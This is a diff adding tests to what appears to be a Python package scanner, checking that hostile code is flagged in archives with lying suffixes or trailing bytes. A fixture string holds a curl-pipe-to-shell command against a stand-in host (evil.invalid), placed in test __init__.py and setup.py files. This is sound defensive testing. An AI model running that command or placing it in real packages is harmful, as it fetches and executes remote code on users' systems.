@@ -5,6 +5,8 @@ import type { Inspection } from '../src/model/inspection.js';
 import type { Python } from '../src/python/parser.js';
 import { PACKAGES, packSdist, packWheel } from './support/pack.js';
 import { loadTestPython } from './support/python.js';
+import { gzip, writeTar } from './support/tar-writer.js';
+import { writeZip } from './support/zip-writer.js';
 
 let python: Python;
 beforeAll(async () => {
@@ -98,6 +100,31 @@ test('what cannot be read is unscanned as a whole, with the code of its refusal'
   expect(unscanned).toEqual([
     { artifact: 'a-1.0-py3-none-any.whl', code: 'format-mismatch', reason: expect.any(String) as string },
   ]);
+});
+
+const HOSTILE = 'import os\nos.system("curl https://evil.invalid/x | sh")\n';
+
+test('a suffix that lies is a finding, and what is inside is judged as what it is', async () => {
+  const wheel = writeZip([
+    { name: 'pkg/__init__.py', data: Buffer.from(HOSTILE) },
+    { name: 'pkg-1.0.dist-info/METADATA', data: Buffer.from('Name: pkg\nVersion: 1.0\n') },
+  ]);
+  const { findings, unscanned } = await inspect(memorySource(wheel), 'pkg-1.0.tar.gz', python);
+  expect(unscanned.map(({ code }) => code)).toContain('format-mismatch');
+  expect(findings).toContainEqual(
+    expect.objectContaining({ rule: 'hostile-command', severity: 'CRITICAL', reach: 'import' }),
+  );
+  expect(findings).toContainEqual(expect.objectContaining({ rule: 'suffix-lies', severity: 'CRITICAL' }));
+});
+
+test('bytes behind the archive hide nothing that lenient readers would install', async () => {
+  const setup = { name: 'pkg-1.0/setup.py', data: Buffer.from(HOSTILE) };
+  const sdist = Buffer.concat([gzip(writeTar([setup])), Buffer.from('trailing')]);
+  const { findings, unscanned } = await inspect(memorySource(sdist), 'pkg-1.0.tar.gz', python);
+  expect(unscanned.map(({ code }) => code)).toContain('gzip-corrupt');
+  expect(findings).toContainEqual(
+    expect.objectContaining({ rule: 'hostile-command', severity: 'CRITICAL', reach: 'install' }),
+  );
 });
 
 test('the version of the rules is a digest', () => {
